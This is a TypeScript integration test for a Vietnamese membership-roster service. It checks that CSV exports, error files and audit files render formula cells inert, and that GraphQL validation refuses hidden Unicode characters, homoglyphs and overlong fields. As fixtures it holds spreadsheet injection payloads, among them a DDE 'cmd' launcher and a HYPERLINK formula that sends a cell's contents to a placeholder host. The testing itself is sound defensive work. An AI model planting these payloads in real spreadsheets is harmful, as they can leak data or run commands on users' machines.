import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { LinkerService } from '../src/linker/linker.service.js';
import { RosterExportService } from '../src/roster-io/export/roster-export.service.js';
import { RosterImportService } from '../src/roster-io/import/roster-import.service.js';
import { CLI_PRINCIPAL, createTestApp, type TestApp } from './test-app.js';

/** What a spreadsheet reads as a formula: OWASP's list. */
const LIVE = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://x.invalid/?d="&B2,"Bấm để xem")';
const CMD = "+cmd|' /C calc'!A0";

/** Every cell of a CSV file, as a spreadsheet splits it (BOM off). */
const cellsOf = (file: string): string[][] => parse(fs.readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true });

/**
 * Hostile text through the real writers and readers on a real PostgreSQL: formula cells come out
 * inert in every CSV (export, error file, audit file) and read back as they were; codes, names and
 * Dân tộc are refused by the rules of member-input, on import and through GraphQL.
 */
describe('inert CSV cells and text that is what it seems', () => {
  let t: TestApp;
  let importer: RosterImportService;
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lienthong-inert-'));
  const file = (name: string, content: string) => {
    const p = path.join(dir, name);
    fs.writeFileSync(p, content);
    return p;
  };
  const run = (p: string, org: string) => importer.import(p, { organization: org, createUnits: true }, CLI_PRINCIPAL);
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;

  beforeAll(async () => {
    t = await createTestApp();
    importer = t.app.get(RosterImportService);
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('writes an error file with every formula inert, which reads back exactly once corrected', async () => {
    const header = 'Mã hồ sơ,Họ và tên,Ngày sinh,Số điện thoại,Mã xã,Dân tộc,Mã đơn vị,Chức vụ';
    const rows = [
      `${quote(HYPERLINK)},Nguyễn Văn An,1970,,00004,Kinh,CHI-1,`,
      `HND-2,Lê Văn Bình,1971,,00004,Kinh,${quote(CMD)},`,
      `HND-3,Trần Văn Ba,1972,,00004,${quote('-2+3+cmd|x')},CHI-1,`,
      `HND-4,,31/02/1968,+84 912 000 111,00004,Kinh,CHI-1,${quote('@SUM(1+1)')}`,
      `HND-5,Phạm Văn Năm,1969,,00004,${'K'.repeat(100_000)},CHI-1,`,
    ];
    const s = await run(file('hnd.csv', `\uFEFF${[header, ...rows].join('\n')}\n`), 'HND');
    // A bad Dân tộc (an optional cell) never refuses its row: left empty, said in a warning on the record.
    expect(s).toMatchObject({ created: 2, rejected: 3 });
    const messages = (await importer.rowErrors(s.jobId, CLI_PRINCIPAL)).map((e) => e.message);
    expect(messages[0]).toContain(`Mã hồ sơ: '${HYPERLINK}' không hợp lệ: mã chỉ gồm chữ cái không dấu, chữ số và các dấu - _ . /`);
    expect(messages[1]).toContain(`Mã đơn vị: '${CMD}' không hợp lệ`);
    expect(messages[2]).toContain('Ngày sinh');
    const kept = await t.sql<{ external_id: string; ethnicity: string | null; warnings: { column: string; message: string }[] }>(
      `SELECT external_id, ethnicity, import_warnings AS warnings FROM member_record WHERE external_id IN ('HND-3', 'HND-5') ORDER BY external_id`,
    );
    expect(kept.map((r) => [r.external_id, r.ethnicity, r.warnings.map((w) => [w.column, w.message])])).toEqual([
      [
        'HND-3',
        null,
        [
          [
            'Dân tộc',
            "Dân tộc: '-2+3+cmd|x' không phải tên dân tộc (chỉ gồm chữ cái, dấu cách và ' - ( )) — ô này để trống khi nhập: sửa trong tệp hoặc trên hồ sơ",
          ],
        ],
      ],
      [
        'HND-5',
        null,
        [['Dân tộc', 'Dân tộc: dài 100000 ký tự, tối đa 60: hãy rút ngắn — ô này để trống khi nhập: sửa trong tệp hoặc trên hồ sơ']],
      ],
    ]);
    // No unit was created from a refused row.
    expect(await t.sql(`SELECT code FROM unit WHERE code NOT LIKE 'HND-%' AND code <> 'CHI-1'`)).toEqual([]);

    const errorFile = path.join(dir, 'hnd.loi.csv');
    await importer.writeErrorFile(s.jobId, errorFile, CLI_PRINCIPAL);
    const cells = cellsOf(errorFile).flat();
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${CMD}`, "'+84 912 000 111", "'@SUM(1+1)"]));

    // Corrected (the name and the date of HND-4: a row without a name is refused, issue 16) and imported again: the phone and Chức vụ read back as typed.
    const fixed = fs.readFileSync(errorFile, 'utf8').replace('31/02/1968', '28/02/1968').replace('HND-4,,', 'HND-4,Đỗ Văn Tư,');
    const again = await run(file('hnd-sua.csv', fixed), 'HND');
    expect(again.created).toBe(1);
    const [rec] = await t.sql<{ phone: string; profile: Record<string, string>; raw: Record<string, string> }>(
      `SELECT phone, profile, raw FROM member_record WHERE organization_code = 'HND' AND external_id = 'HND-4'`,
    );
    expect(rec).toMatchObject({ phone: '0912000111', profile: { position: '@SUM(1+1)' }, raw: { phone: '+84 912 000 111' } });
  });

  it('exports a roster whose formula-looking values are inert and re-import unchanged', async () => {
    const r = await t.gql(`mutation($i: CreateMemberRecordInput!) { createMemberRecord(input: $i) { id } }`, {
      i: { organization: 'HND', externalId: 'HND-6', fullName: 'Vũ Văn Sáu', profile: [{ key: 'position', value: '=1+1' }] },
    });
    expect(r.errors).toBeUndefined();
    const out = path.join(dir, 'hnd-export.csv');
    await t.app.get(RosterExportService).export({ organization: 'HND', format: 'csv', out }, CLI_PRINCIPAL);
    const cells = cellsOf(out).flat();
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(["'=1+1", "'@SUM(1+1)"]));
    expect(await run(out, 'HND')).toMatchObject({ created: 0, updated: 0, rejected: 0, unchanged: 4 });
  });

  it('writes the audit file with its header as agreed and a code stored before these rules inert', async () => {
    // A record of an older version, whose Mã hồ sơ no rule checked.
    await t.sql(`UPDATE member_record SET external_id = '=1+2' WHERE organization_code = 'HND' AND external_id = 'HND-6'`);
    await t.app.get(LinkerService).link();
    const out = path.join(dir, 'audit.csv');
    await t.app.get(LinkerService).writeAudit(out, CLI_PRINCIPAL);
    const text = fs.readFileSync(out, 'utf8');
    expect(text.split('\n')[0]).toBe('org,ma_ho_so,person_id,ao,flags');
    const cells = cellsOf(out).flat();
    expect(cells).toContain("'=1+2");
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
  });

  it('refuses hostile names, codes and Dân tộc through GraphQL with a Vietnamese message naming the field', async () => {
    const create = (i: Record<string, unknown>) =>
      t.gql<{ createMemberRecord: { id: string } }>(`mutation($i: CreateMemberRecordInput!) { createMemberRecord(input: $i) { id } }`, {
        i: { organization: 'HND', ...i },
      });
    const cases: [Record<string, unknown>, string, string][] = [
      [{ externalId: '=HYPERLINK("x")', fullName: 'Lê Văn Bảy' }, 'externalId', 'Mã hồ sơ: '],
      [{ externalId: 'HND\u200b7', fullName: 'Lê Văn Bảy' }, 'externalId', 'U+200B'],
      [{ externalId: 'HND-7', fullName: '...' }, 'fullName', 'Họ và tên: '],
      [{ externalId: 'HND-7', fullName: 'Lê Văn Bаy' }, 'fullName', 'chữ Kirin'],
      [{ externalId: 'HND-7', fullName: 'Lê Văn\u202e Bảy' }, 'fullName', 'U+202E'],
      [{ externalId: 'HND-7', fullName: 'Lê Văn Bảy', ethnicity: 'Kinh\u2028' }, 'ethnicity', 'Dân tộc: '],
    ];
    for (const [input, field, text] of cases) {
      const r = await t.gql<never>(`mutation($i: CreateMemberRecordInput!) { createMemberRecord(input: $i) { id } }`, {
        i: { organization: 'HND', ...input },
      });
      expect(r.status).toBeLessThan(500);
      expect(r.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
      const problems = r.errors![0].extensions!.problems as { field: string; message: string }[];
      expect(problems.find((p) => p.field === field)?.message).toContain(text);
    }
    // 100,000 characters of Dân tộc: refused before any work, naming the field and the limit.
    const long = await t.gql(`mutation($i: CreateMemberRecordInput!) { createMemberRecord(input: $i) { id } }`, {
      i: { organization: 'HND', externalId: 'HND-7', fullName: 'Lê Văn Bảy', ethnicity: 'K'.repeat(100_000) },
    });
    expect(long.status).toBeLessThan(500);
    expect(long.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
    expect(long.errors![0].extensions!.problems![0].message).toMatch(/^Trường 'ethnicity' = 'K{80}': quá dài \(tối đa 60 ký tự\)$/);
    expect(await t.sql(`SELECT 1 FROM member_record WHERE external_id LIKE 'HND%7'`)).toEqual([]);
    const ok = await create({ externalId: 'HND-7', fullName: "H'Hen Niê", ethnicity: 'Ê Đê' });
    expect(ok.errors).toBeUndefined();

    const unit = await t.gql(`mutation($i: CreateUnitInput!) { createUnit(input: $i) { code } }`, {
      i: { organization: 'HND', code: '@SUM(1)', name: 'Chi hội\u200b', kind: 'BASE', communeCode: '00004' },
    });
    expect(unit.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
    expect((unit.errors![0].extensions!.problems as { message: string }[]).map((p) => p.message)).toEqual([
      expect.stringContaining("Mã đơn vị: '@SUM(1)' không hợp lệ") as string,
      expect.stringContaining('Tên đơn vị: có ký tự ẩn U+200B') as string,
    ]);

    const association = await t.gql(`mutation($i: CreateAssociationInput!) { createAssociation(input: $i) { code } }`, {
      i: { code: 'CTD', name: 'Hội Chữ thập đỏ\u202e', memberTerm: 'hội viên' },
    });
    expect(association.errors?.[0].extensions?.problems).toEqual([
      { field: 'name', value: 'Hội Chữ thập đỏ\u202e', message: expect.stringContaining('Tên hội: có ký tự ẩn U+202E') as string },
    ]);
  });
});
